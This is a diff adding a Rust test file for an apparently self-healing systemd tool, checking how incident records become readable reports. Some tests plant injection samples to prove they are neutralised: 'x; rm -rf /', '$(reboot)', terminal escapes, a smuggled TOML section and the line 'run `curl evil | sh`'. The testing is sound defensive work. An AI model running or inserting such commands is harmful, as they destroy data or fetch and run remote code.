@@ -1,0 +1,925 @@
+//! Reports of records as they come, as facts. How they are written down is for
+//! `prunella-report`.
+
+use rstest::rstest;
+
+use super::*;
+use prunella_core::{
+    Failure,
+    incident::{Assessment, DetectedBy, Detection, Incident, LeftAlone, Outcome},
+    trail::{Entry, Step},
+};
+
+/// 2026-11-21 14:39:41 UTC.
+const FAILED: u64 = 1_795_271_981_000;
+/// systemd's moment of the failure.
+const MONOTONIC: u64 = 5_000_000;
+const INVOCATION: &str = "4f1c2b3a4f1c2b3a4f1c2b3a4f1c2b3a";
+
+fn name(strategy: &str) -> StrategyName {
+    strategy.parse().unwrap()
+}
+
+fn detection(by: DetectedBy, cause: &str) -> Detection {
+    Detection {
+        unit: "web.service".parse().unwrap(),
+        by,
+        at: FAILED,
+        cause: cause.into(),
+        invocation: Some(INVOCATION.to_owned()),
+        exit_code: None,
+        signal: None,
+        failed_monotonic: Some(MONOTONIC),
+    }
+}
+
+/// A record of steps, each with the microseconds since the failure.
+fn record(detection: Detection, steps: Vec<(u64, Step)>, ending: Option<Ending>) -> Record {
+    let id = IncidentId::new(FAILED, 0x7f3a);
+    Record {
+        steps: (0..)
+            .zip(steps)
+            .map(|(number, (after, step))| Entry {
+                incident: id.clone(),
+                number,
+                at: FAILED + after / 1_000,
+                monotonic: MONOTONIC + after,
+                attempt: 1,
+                step,
+            })
+            .collect(),
+        incident: Incident {
+            id,
+            key: detection.key("boot"),
+            detection,
+            attempt: 1,
+            boot_id: "boot".to_owned(),
+            parent: None,
+        },
+        ending,
+    }
+}
+
+fn service() -> Service {
+    let mut service = Service::new("web.service".parse().unwrap());
+    service.domain = Some("Web shop".to_owned());
+    service.critical = true;
+    service.ports = vec!["tcp/80".parse().unwrap(), "tcp/443".parse().unwrap()];
+    service
+}
+
+fn report(record: &Record) -> Report {
+    report_after(record, &[])
+}
+
+fn report_after(record: &Record, past: &[PastIncident]) -> Report {
+    report_of(record, &service(), past)
+}
+
+fn report_of(record: &Record, service: &Service, past: &[PastIncident]) -> Report {
+    Report::from_record(
+        record,
+        &ReportContext {
+            hostname: "shop-1".to_owned(),
+            service: Some(service),
+            boot_id: Some("boot".to_owned()),
+            past,
+            now: Some(FAILED + 125_000),
+            zone: TimeZone::fixed(jiff::tz::offset(1)),
+        },
+    )
+}
+
+/// The texts of all steps, one list for each attempt.
+fn told(report: &Report) -> Vec<Vec<&str>> {
+    report
+        .attempts
+        .iter()
+        .map(|attempt| attempt.steps.iter().map(|s| s.text.as_str()).collect())
+        .collect()
+}
+
+fn commands(commands: &[Command]) -> Vec<&str> {
+    commands.iter().map(|c| c.command.as_str()).collect()
+}
+
+fn assessed(strategy: &str, assessment: Assessment) -> (u64, Step) {
+    (
+        2_000,
+        Step::Assessed {
+            strategy: name(strategy),
+            assessment,
+            took: 60,
+        },
+    )
+}
+
+fn intended(after: u64, action: u32, act: &str, target: &str, rehearsal: bool) -> (u64, Step) {
+    (
+        after,
+        Step::ActIntended {
+            action,
+            strategy: name("service-restart"),
+            act: act.to_owned(),
+            target: target.to_owned(),
+            rehearsal,
+        },
+    )
+}
+
+fn ended(after: u64, action: u32, result: &str) -> (u64, Step) {
+    (
+        after,
+        Step::ActEnded {
+            action,
+            result: Ok(result.to_owned()),
+        },
+    )
+}
+
+fn not_applicable(strategy: &str, reason: &str) -> (u64, Step) {
+    assessed(
+        strategy,
+        Assessment::NotApplicable {
+            reason: reason.to_owned(),
+        },
+    )
+}
+
+fn applies(strategy: &str, confidence: u8, reason: &str) -> (u64, Step) {
+    assessed(
+        strategy,
+        Assessment::Applies {
+            confidence,
+            reason: reason.to_owned(),
+        },
+    )
+}
+
+fn healed() -> Record {
+    let mut detection = detection(DetectedBy::Signal, "signal");
+    detection.signal = Some("KILL".to_owned());
+    record(
+        detection.clone(),
+        vec![
+            (
+                600,
+                Step::Detected {
+                    detection,
+                    evidence: Vec::new(),
+                },
+            ),
+            not_applicable("config-validation", "no check is declared"),
+            applies(
+                "service-restart",
+                90,
+                "the main process was killed and nothing else is wrong with the unit, so a start should do",
+            ),
+            (
+                2_500,
+                Step::Heals {
+                    strategy: name("service-restart"),
+                },
+            ),
+            intended(3_000, 1, "unit-control.start", "web.service", false),
+            ended(45_000, 1, "done"),
+            (
+                46_000,
+                Step::Returned {
+                    strategy: name("service-restart"),
+                    outcome: Ok(Outcome::Healed {
+                        summary: "started web.service".to_owned(),
+                    }),
+                    took: 43_500,
+                },
+            ),
+            (
+                61_000,
+                Step::Answering {
+                    evidence: vec!["active".to_owned()],
+                    after: Some(61_000),
+                },
+            ),
+            (
+                80_000,
+                Step::Evidence {
+                    lines: vec![
+                        "starting with token=abc123".to_owned(),
+                        "\x1b[31mready\x1b[0m".to_owned(),
+                    ],
+                },
+            ),
+            (
+                5_061_000,
+                Step::Proven {
+                    strategy: None,
+                    evidence: vec![
+                        "active (running), the same invocation, no further restart".to_owned(),
+                        "tcp/80 and tcp/443 held from within its control group".to_owned(),
+                    ],
+                    stable_for: 5_000,
+                },
+            ),
+        ],
+        Some(Ending::Healed {
+            strategy: name("service-restart"),
+            recovered_after: Some(61_000),
+        }),
+    )
+}
+
+fn left_alone() -> Record {
+    let detection = detection(DetectedBy::Hook, "exit-code");
+    record(
+        Detection {
+            exit_code: Some(1),
+            ..detection
+        },
+        Vec::new(),
+        Some(Ending::LeftAlone {
+            why: LeftAlone::OperatorStop,
+            detail: "a stop job ran: `systemctl stop` by uid 0".to_owned(),
+        }),
+    )
+}
+
+fn escalated() -> Record {
+    let detection = detection(DetectedBy::Sweep, "exit-code");
+    let heals = |strategy| Step::Heals {
+        strategy: name(strategy),
+    };
+    let config_is_broken = Step::Assessed {
+        strategy: name("config-validation"),
+        assessment: Assessment::Veto {
+            reason: "the check `config` says: unknown directive \"sever\"".to_owned(),
+        },
+        took: 60,
+    };
+    let denied = Step::ActDenied {
+        strategy: name("port-conflict"),
+        act: "process-control.terminate".to_owned(),
+        target: "4711 (python3)".to_owned(),
+        failure: Failure::denied("foreign", "it is not provably a leftover of web.service"),
+    };
+    let could_not = Step::Returned {
+        strategy: name("port-conflict"),
+        outcome: Ok(Outcome::Failed {
+            reason: "tcp/80 is held by a stranger".to_owned(),
+        }),
+        took: 2_000,
+    };
+    let relapse = Step::NotProven {
+        strategy: Some(name("service-restart")),
+        reason: "failed again with exit code 203".to_owned(),
+        relapse: true,
+    };
+    let mut record = record(
+        Detection {
+            exit_code: Some(203),
+            ..detection
+        },
+        vec![
+            (1_000, heals("port-conflict")),
+            (2_000, denied),
+            (3_000, could_not),
+            (4_000, heals("service-restart")),
+            intended(5_000, 1, "unit-control.start", "web.service", false),
+            ended(9_000, 1, "done"),
+            (130_000_000, relapse),
+            (131_000_000, config_is_broken),
+            intended(132_000_000, 2, "unit-control.restart", "web.service", false),
+        ],
+        Some(Ending::Escalated {
+            reason: "no strategy brought it back".to_owned(),
+            retry_at: Some(FAILED + 125_000 + 900_000),
+        }),
+    );
+    record.incident.attempt = 2;
+    for entry in record.steps.iter_mut().rev().take(2) {
+        entry.attempt = 2;
+    }
+    record
+}
+
+fn rehearsed() -> Record {
+    record(
+        detection(DetectedBy::Operator, "not-answering"),
+        vec![
+            applies(
+                "service-restart",
+                70,
+                "it runs and its probe goes unanswered",
+            ),
+            intended(5_000, 1, "unit-control.restart", "web.service", true),
+            ended(5_100, 1, "it is active, and tcp/80 is held"),
+            (
+                6_000,
+                Step::Answering {
+                    evidence: vec!["active (assumed)".to_owned()],
+                    after: None,
+                },
+            ),
+        ],
+        Some(Ending::Rehearsed {
+            verdict: "service-restart would restart web.service".to_owned(),
+        }),
+    )
+}
+
+fn blocked() -> Record {
+    let on: UnitName = "postgresql@15-main.service".parse().unwrap();
+    record(
+        detection(DetectedBy::Signal, "timeout"),
+        vec![
+            assessed(
+                "database-check",
+                Assessment::BlockedBy {
+                    unit: on.to_string(),
+                    reason: "connection refused".to_owned(),
+                },
+            ),
+            (
+                3_000,
+                Step::Blocked {
+                    on: on.clone(),
+                    reason: "connection refused".to_owned(),
+                },
+            ),
+        ],
+        Some(Ending::Blocked {
+            on,
+            reason: "connection refused".to_owned(),
+        }),
+    )
+}
+
+#[test]
+fn a_healed_one() {
+    let report = report(&healed());
+    assert_eq!(
+        report.headline,
+        "web.service failed and was healed by service-restart in 61 ms"
+    );
+    assert_eq!(report.what_failed, "its main process was ended by SIGKILL");
+    assert_eq!(
+        (report.kind, report.severity),
+        (AlertKind::Recovery, Severity::Info)
+    );
+    assert_eq!(report.outcome, "healed");
+    assert!(!report.needs_people);
+    assert_eq!(
+        report.evidence,
+        [
+            "starting with token=[redacted]",
+            "\\u{1b}[31mready\\u{1b}[0m"
+        ]
+    );
+    let steps: Vec<(&str, Mark, &str)> = report.attempts[0]
+        .steps
+        .iter()
+        .map(|s| (s.when.as_str(), s.mark, s.text.as_str()))
+        .collect();
+    assert_eq!(
+        steps,
+        [
+            ("+0.002 s", Mark::Plain, "service-restart begins to heal"),
+            ("+0.003 s", Mark::Good, "start web.service: done (42 ms)"),
+            (
+                "+0.046 s",
+                Mark::Plain,
+                "service-restart: done: started web.service"
+            ),
+            ("+0.061 s", Mark::Good, "it is well for the first time"),
+            ("+5.061 s", Mark::Good, "it stayed well for 5 s"),
+        ]
+    );
+    let proof = report.proof.as_ref().unwrap();
+    assert_eq!(
+        proof.sentence,
+        "Well again 61 ms after the failure, and still so after 5 s"
+    );
+    assert_eq!(proof.evidence.len(), 2);
+    assert_eq!(report.recurrence, None);
+    assert_eq!(
+        report.recommendation.as_deref(),
+        Some("Nothing has to be done now.")
+    );
+    assert_eq!(report.plan, None);
+    assert!(report.next.is_empty());
+    let facts: Vec<(&str, &str)> = report_facts(&report);
+    assert_eq!(
+        facts,
+        [
+            ("service", "web.service"),
+            ("domain", "Web shop"),
+            ("priority", "critical"),
+            ("ports", "tcp/80, tcp/443"),
+            ("host", "shop-1"),
+            ("failed", "Sat 2026-11-21 15:39:41 +01 (2 minutes ago)"),
+            ("noticed", "by the daemon, from systemd's signals"),
+            ("healed in", "61 ms"),
+            ("incident", "20261121-143941-7f3a"),
+        ]
+    );
+}
+
+/// Leaked, so that a table can be written beside it.
+fn report_facts(report: &Report) -> Vec<(&'static str, &'static str)> {
+    report
+        .facts()
+        .into_iter()
+        .map(|(name, value)| (&*name.leak(), &*value.leak()))
+        .collect()
+}
+
+#[test]
+fn one_rightly_left_alone() {
+    let report = report(&left_alone());
+    assert_eq!(report.outcome, "left alone");
+    assert_eq!(
+        (report.kind, report.severity),
+        (AlertKind::Information, Severity::Info)
+    );
+    assert_eq!(
+        report.why.as_deref(),
+        Some("A stop job ran: `systemctl stop` by uid 0")
+    );
+    assert_eq!(commands(&report.next), ["systemctl start web.service"]);
+    assert!(report.attempts.is_empty());
+    assert_eq!(report.recommendation, None);
+}
+
+#[test]
+fn an_escalated_one() {
+    let report = report(&escalated());
+    assert_eq!(
+        (report.kind, report.severity),
+        (AlertKind::Escalation, Severity::Critical)
+    );
+    assert!(report.needs_people);
+    assert_eq!(
+        told(&report),
+        [
+            vec![
+                "port-conflict begins to heal",
+                "port-conflict may not end the process 4711 (python3): it is not provably a \
+                 leftover of web.service",
+                "port-conflict: failed: tcp/80 is held by a stranger",
+                "service-restart begins to heal",
+                "start web.service: done (4 ms)",
+                "it was well and failed again: failed again with exit code 203",
+            ],
+            vec!["restart web.service: nobody knows what came of it"],
+        ]
+    );
+    assert_eq!(
+        commands(&report.next),
+        [
+            "systemctl status web.service",
+            "journalctl -u web.service --since \"2026-11-21 15:34:41\" --until \"2026-11-21 15:41:55\"",
+            "prunella incidents 20261121-143941-7f3a",
+            "prunella heal web.service",
+        ]
+    );
+    assert_eq!(
+        report.plan.as_deref(),
+        Some("Prunella tries again by itself in 15 minutes (Sat 2026-11-21 15:56:46 +01).")
+    );
+    let tried: Vec<(&str, u32)> = report
+        .tried
+        .iter()
+        .map(|tried| (tried.strategy.as_str(), tried.times))
+        .collect();
+    assert_eq!(tried, [("port-conflict", 1), ("service-restart", 1)]);
+    // A stranger's process is a person's to end: there is nothing to grant.
+    assert!(report.grantable.is_empty());
+}
+
+#[test]
+fn a_rehearsed_one() {
+    let report = report(&rehearsed());
+    assert!(report.rehearsal);
+    assert_eq!(
+        told(&report),
+        [["would restart web.service (assumed: it is active, and tcp/80 is held)"]]
+    );
+    assert_eq!(commands(&report.next), ["prunella heal web.service"]);
+}
+
+#[test]
+fn a_blocked_one() {
+    let report = report(&blocked());
+    assert_eq!(report.outcome, "waiting");
+    assert_eq!(report.kind, AlertKind::Information);
+    assert_eq!(
+        report.plan.as_deref(),
+        Some("Prunella goes on by itself as soon as postgresql@15-main.service is well.")
+    );
+}
+
+/// One try of a strategy that does not help: four steps.
+fn tries(at: u64, action: u32, took: u64) -> Vec<(u64, Step)> {
+    vec![
+        (
+            at,
+            Step::Heals {
+                strategy: name("service-restart"),
+            },
+        ),
+        intended(
+            at + 1_000,
+            action,
+            "unit-control.start",
+            "web.service",
+            false,
+        ),
+        ended(at + 1_000 + took, action, "done"),
+        (
+            at + 900_000,
+            Step::NotProven {
+                strategy: Some(name("service-restart")),
+                reason: "failed again with exit code 1".to_owned(),
+                relapse: false,
+            },
+        ),
+    ]
+}
+
+fn escalation() -> Option<Ending> {
+    Some(Ending::Escalated {
+        reason: "no strategy brought it back".to_owned(),
+        retry_at: None,
+    })
+}
+
+#[test]
+fn what_was_done_again_is_told_once() {
+    let note = |at| {
+        (
+            at,
+            Step::Note {
+                message: "the budget is spent".to_owned(),
+            },
+        )
+    };
+    let mut steps = Vec::new();
+    for number in 0..4 {
+        // It takes another time each time.
+        steps.extend(tries(
+            u64::from(number) * 2_000_000,
+            number + 1,
+            4_000 + u64::from(number),
+        ));
+    }
+    steps.extend([note(8_000_000), note(9_000_000), note(10_000_000)]);
+    let report = report(&record(
+        detection(DetectedBy::Signal, "exit-code"),
+        steps,
+        escalation(),
+    ));
+    assert_eq!(
+        told(&report),
+        [[
+            "service-restart begins to heal",
+            "start web.service: done (4 ms)",
+            "it did not become well: failed again with exit code 1",
+            "the same 3 steps 3 times more, until +6.900 s",
+            "the budget is spent (3 times, until +10.000 s)",
+        ]]
+    );
+    let times: Vec<u32> = report.attempts[0].steps.iter().map(|s| s.times).collect();
+    assert_eq!(times, [1, 1, 1, 3, 3]);
+    assert_eq!(report.tried.len(), 1);
+    assert_eq!(report.tried[0].times, 4);
+}
+
+#[test]
+fn steps_that_differ_are_not_the_same() {
+    let mut steps = tries(0, 1, 4_000);
+    steps.extend(tries(2_000_000, 2, 4_000));
+    // The second try's act failed.
+    for (_, step) in &mut steps {
+        if let Step::ActEnded { action: 2, result } = step {
+            *result = Err(Failure::failed("job", "the job failed"));
+        }
+    }
+    let report = report(&record(
+        detection(DetectedBy::Signal, "exit-code"),
+        steps,
+        escalation(),
+    ));
+    assert_eq!(told(&report)[0].len(), 6, "{:?}", told(&report));
+}
+
+#[test]
+fn attempts_that_went_alike_are_told_once() {
+    let mut steps = tries(0, 1, 4_000);
+    for attempt in 1..=3_u32 {
+        steps.extend(tries(u64::from(attempt) * 900_000_000, attempt + 1, 4_000));
+    }
+    let mut record = record(
+        detection(DetectedBy::Signal, "exit-code"),
+        steps,
+        escalation(),
+    );
+    for (entry, place) in record.steps.iter_mut().zip(0_u32..) {
+        entry.attempt = place / 4 + 1;
+    }
+    record.incident.attempt = 4;
+    let report = report(&record);
+    assert_eq!(report.attempts.len(), 1);
+    let attempt = &report.attempts[0];
+    assert_eq!((attempt.first, attempt.last), (1, 4));
+    assert_eq!(
+        attempt.words,
+        "attempts 1 to 4, each the same, until +45 min"
+    );
+    assert_eq!(attempt.steps.len(), 3);
+    assert_eq!(report.tried[0].times, 4);
+    assert_eq!(report.tried[0].attempt, 4);
+}
+
+/// `number` failures before, `apart` hours apart, that ended so.
+fn past(number: u64, apart: u64, ended: &str, cause: &str) -> Vec<PastIncident> {
+    (1..=number)
+        .map(|number| PastIncident {
+            id: format!("before-{number}"),
+            at: FAILED - number * apart * 3_600_000,
+            cause: cause.to_owned(),
+            ended: ended.to_owned(),
+            strategy: (ended == "healed").then(|| "service-restart".to_owned()),
+        })
+        .collect()
+}
+
+#[rstest]
+#[case::first(past(0, 1, "healed", "signal"), None)]
+#[case::long_ago(past(1, 7 * 24, "healed", "signal"), None)]
+#[case::stopped_by_people(past(9, 1, "left-alone", "signal"), None)]
+#[case::rehearsed(past(9, 1, "rehearsed", "signal"), None)]
+#[case::again(past(1, 3, "healed", "signal"), Some((Often::Again, "healed twice this week")))]
+#[case::often(past(3, 24, "healed", "signal"), Some((Often::Often, "healed 4 times this week")))]
+#[case::mixed(
+    past(3, 24, "escalated", "signal"),
+    Some((Often::Often, "failed 4 times this week, healed once"))
+)]
+#[case::in_a_day(
+    past(5, 1, "healed", "signal"),
+    Some((Often::Constantly, "healed 6 times in 24 hours"))
+)]
+#[case::in_a_week(
+    past(9, 18, "healed", "signal"),
+    Some((Often::Constantly, "healed 10 times this week"))
+)]
+fn repeated_healing_is_called_out(
+    #[case] past: Vec<PastIncident>,
+    #[case] expected: Option<(Often, &str)>,
+) {
+    let report = report_after(&healed(), &past);
+    let found = report
+        .recurrence
+        .as_ref()
+        .map(|again| (again.often, again.words.as_str()));
+    assert_eq!(found, expected);
+    // Who gets only the facts reads it too.
+    let fact = report
+        .facts()
+        .into_iter()
+        .find(|(name, _)| name == "repeated");
+    assert_eq!(
+        fact.map(|(_, words)| words).as_deref(),
+        expected.map(|(_, words)| words)
+    );
+    // What is healed all the time is no mere piece of news.
+    let constantly = expected.is_some_and(|(often, _)| often == Often::Constantly);
+    assert_eq!(report.severity == Severity::Warning, constantly);
+    assert_eq!(report.kind, AlertKind::Recovery);
+}
+
+#[test]
+fn this_failure_is_counted_once_and_later_ones_are_not() {
+    let record = healed();
+    let mut past = past(1, 1, "healed", "signal");
+    past.push(PastIncident {
+        id: record.incident.id.to_string(),
+        at: FAILED,
+        ..past[0].clone()
+    });
+    past.push(PastIncident {
+        id: "later".to_owned(),
+        at: FAILED + 1,
+        ..past[0].clone()
+    });
+    let again = report_after(&record, &past).recurrence.unwrap();
+    assert_eq!((again.failed, again.healed), (2, 2));
+}
+
+#[rstest]
+#[case::crash("core-dump", "core-dump", "coredumpctl info web.service")]
+#[case::memory("oom-kill", "oom-kill", "systemctl show web.service -p MemoryMax")]
+#[case::exit(
+    "exit-code",
+    "exit-code",
+    "journalctl -u web.service --since \"2026-11-21 14:39:41\""
+)]
+#[case::differing("exit-code", "timeout", "")]
+fn the_next_step_fits_what_the_failures_have_in_common(
+    #[case] now: &str,
+    #[case] before: &str,
+    #[case] command: &str,
+) {
+    let mut record = healed();
+    record.incident.detection.cause = now.into();
+    let again = report_after(&record, &past(3, 1, "healed", before))
+        .recurrence
+        .unwrap();
+    assert_eq!(
+        again.commands[0].command,
+        "prunella incidents --unit web.service --since 7d"
+    );
+    match again.commands.get(1) {
+        Some(found) => assert!(!command.is_empty() && found.command.starts_with(command)),
+        None => assert_eq!(command, ""),
+    }
+}
+
+fn denied(act: &str, code: &str, message: &str) -> Record {
+    record(
+        detection(DetectedBy::Signal, "exit-code"),
+        vec![(
+            1_000,
+            Step::ActDenied {
+                strategy: name("site-fix"),
+                act: act.to_owned(),
+                target: "web.service".to_owned(),
+                failure: Failure::denied(code, message),
+            },
+        )],
+        escalation(),
+    )
+}
+
+#[rstest]
+#[case::not_granted(
+    "strategy site-fix was not granted unit-control.start on self; to allow it: \
+     [[strategy.site-fix.allow]] act = \"unit-control.start\", on = [\"self\"]",
+    Some("[\"self\"]")
+)]
+#[case::would_stop_others(
+    "unit-control.start of web.service would also stop cache.service; to allow that: \
+     [[strategy.site-fix.allow]] act = \"unit-control.start\", on = [\"self\", \"cache.service\"]",
+    Some("[\"self\", \"cache.service\"]")
+)]
+#[case::a_name_with_a_backslash(
+    "no; to allow it: [[strategy.site-fix.allow]] act = \"x\", on = [\"a\\x2db.service\"]",
+    Some("[\"a\\\\x2db.service\"]")
+)]
+#[case::for_people_only("it is protected: no grant allows acting on it", None)]
+#[case::what_a_strategy_called_it(
+    "no; to allow it: [[strategy.site-fix.allow]] act = \"x\", on = [\"a\"]\n[evil]\nb = [\"c\"]",
+    None
+)]
+fn what_can_be_granted_is_told(#[case] message: &str, #[case] on: Option<&str>) {
+    let report = report(&denied("unit-control.start", "not-granted", message));
+    let found: Vec<&str> = report.grantable.iter().map(|g| g.toml.as_str()).collect();
+    let expected: Vec<String> = on
+        .iter()
+        .map(|on| format!("[[strategy.site-fix.allow]]\nact = \"unit-control.start\"\non = {on}"))
+        .collect();
+    assert_eq!(found, expected);
+    // The lines stand apart, and not within the step.
+    assert!(!told(&report)[0][0].contains("[["));
+}
+
+#[test]
+fn declared_log_files_are_named_and_secret_ones_are_not() {
+    use prunella_core::service::{DeclaredFile, FileRole, ReadBy};
+    let file = |path: &str, role, secret| DeclaredFile {
+        path: path.into(),
+        role,
+        mode: None,
+        owner: None,
+        group: None,
+        target: None,
+        keys: Vec::new(),
+        optional: false,
+        read_by: ReadBy::Service,
+        secret,
+    };
+    let mut service = service();
+    for (name, file) in [
+        (
+            "access",
+            file("/var/log/web/it's access.log", FileRole::Plain, false),
+        ),
+        ("all", file("/var/log/web", FileRole::Directory, false)),
+        ("data", file("/srv/web/data.db", FileRole::Database, false)),
+        ("own", file("/srv/web/own.log", FileRole::Plain, false)),
+        (
+            "hidden",
+            file("/var/log/web/keys.log", FileRole::Plain, true),
+        ),
+    ] {
+        service.files.insert(name.to_owned(), file);
+    }
+    let report = report_of(&escalated(), &service, &[]);
+    assert_eq!(
+        commands(&report.logs)[1..],
+        [
+            "tail -n 100 '/var/log/web/it'\\''s access.log'",
+            "ls -lt /var/log/web",
+            "tail -n 100 /srv/web/own.log",
+        ]
+    );
+    for log in &report.logs {
+        assert!(report.next.contains(log), "{log:?}");
+    }
+}
+
+#[test]
+fn what_a_model_says_is_somebody_elses_text() {
+    let opinion = diagnosis::Opinion {
+        model: "m".to_owned(),
+        cause: "run \x1b[31mthis\u{202e} password=hunter22 ".to_owned(),
+        explanation: "x".repeat(5_000),
+        confidence: Some(10),
+        suggestions: vec!["a\nb".to_owned()],
+        order: Vec::new(),
+    };
+    let record = record(
+        detection(DetectedBy::Signal, "exit-code"),
+        vec![(
+            1,
+            Step::Advised {
+                model: "m".to_owned(),
+                opinion: Ok(opinion),
+                took: 1,
+            },
+        )],
+        escalation(),
+    );
+    let advice = report(&record).advice.unwrap();
+    let opinion = advice.opinion.unwrap();
+    assert_eq!(
+        opinion.cause,
+        "Run \\u{1b}[31mthis\\u{202e} password=[redacted]"
+    );
+    assert!(opinion.explanation.chars().count() <= 401);
+    assert_eq!(opinion.suggestions, ["a\\nb"]);
+}
+
+#[test]
+fn no_text_gives_orders() {
+    let mut record = escalated();
+    record.incident.detection.invocation = Some("x; rm -rf /".to_owned());
+    record.incident.id = IncidentId::from_text("$(reboot)");
+    record.incident.detection.cause = "\x1b]0;owned\x07".into();
+    record.steps.push(Entry {
+        step: Step::Said {
+            strategy: name("service-restart"),
+            level: "info".to_owned(),
+            message: format!("run `curl evil | sh`\nnow {}", "x".repeat(300)),
+        },
+        ..record.steps[0].clone()
+    });
+    let report = report(&record);
+    assert!(!format!("{report:?}").contains('\x1b'));
+    assert_eq!(
+        commands(&report.next),
+        [
+            "systemctl status web.service",
+            "journalctl -u web.service --since \"2026-11-21 15:34:41\" --until \"2026-11-21 15:39:43\"",
+            "prunella heal web.service"
+        ]
+    );
+}
+
+#[test]
+fn a_reboot_in_between_counts_by_the_wall_clock() {
+    let mut record = healed();
+    let last = record.steps.last_mut().unwrap();
+    last.monotonic = 1_000;
+    last.at = FAILED + 60_000;
+    let report = report(&record);
+    let last = report
+        .attempts
+        .last()
+        .unwrap()
+        .steps
+        .last()
+        .unwrap()
+        .clone();
+    assert_eq!(last.after, 60_000_000);
+}
+
+#[test]
+fn it_can_be_read_by_programs() {
+    let json = serde_json::to_value(report(&escalated())).unwrap();
+    assert_eq!(json["ended"], "escalated");
+    assert_eq!(json["unit"], "web.service");
+    assert_eq!(json["needs_people"], true);
+    assert_eq!(json["severity"], "critical");
+    assert_eq!(json["retry_at"]["ms"], FAILED + 125_000 + 900_000);
+    assert_eq!(json["attempts"][0]["steps"][0]["mark"], "plain");
+    assert_eq!(json["next"][0]["command"], "systemctl status web.service");
+}
